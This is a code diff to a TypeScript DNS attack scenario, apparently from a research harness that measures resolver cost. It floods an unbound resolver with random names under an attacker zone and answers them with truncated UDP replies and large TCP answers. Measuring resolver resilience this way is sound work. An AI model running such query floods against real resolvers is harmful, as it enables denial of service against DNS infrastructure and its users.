@@ -1,10 +1,10 @@
 import type { Attack, Setting } from "../frame/attack.ts";
 import { EVIL_ZONES } from "../frame/places.ts";
 import {
-  address,
   pointer,
   query,
   questionOf,
+  readdressed,
   record,
   reply,
   soa,
@@ -44,6 +44,17 @@ export function longAnswer(message: Uint8Array): Uint8Array {
   return reply(message, { answers });
 }
 
+/** Answers by the name they are for: those of the chain, and one for all names at its start. */
+const made = new Map<string, Uint8Array>();
+
+function answerOnce(message: Uint8Array): Uint8Array {
+  const { name, end } = questionOf(message);
+  const key = CHAIN.includes(name) ? name : String(end);
+  const template = made.get(key) ?? longAnswer(message);
+  made.set(key, template);
+  return readdressed(template, message);
+}
+
 const SETTING: Setting = { unbound: true };
 
 /** The attack at a rate of queries a second. */
@@ -54,20 +65,17 @@ export function scanCost(rate: number): Attack {
       `${rate} names a second of a zone whose answers, through an honest unbound, are 62 KB.`,
     setting: SETTING,
     upstream(message, transport) {
-      const { type, name } = questionOf(message);
-      if (name === `probe.${EVIL_ZONES.udp}`) {
-        return reply(message, { answers: [address(TTL, u32(0x0a000001))] });
-      }
+      const { type } = questionOf(message);
       if (type !== TYPE.A) return reply(message, { authority: [soa(5)] });
-      return transport === "udp" ? truncated(message) : longAnswer(message);
+      return transport === "udp" ? truncated(message) : answerOnce(message);
     },
     async attack({ udp, paced }) {
       const socket = udp();
       let answered = 0;
-      const run = Math.floor(Math.random() * 2 ** 30);
+      const run = String(Math.random()).slice(2, 10);
       const asked = await paced(
         rate,
-        (n) => socket.send(query(`r${n}-${run}.${EVIL_ZONES.udp}`)),
+        (n) => socket.send(query(`r${String(n).padStart(4, "0")}-${run}.${EVIL_ZONES.udp}`)),
         () => answered += socket.drain().count,
       );
       return { asked, answered };
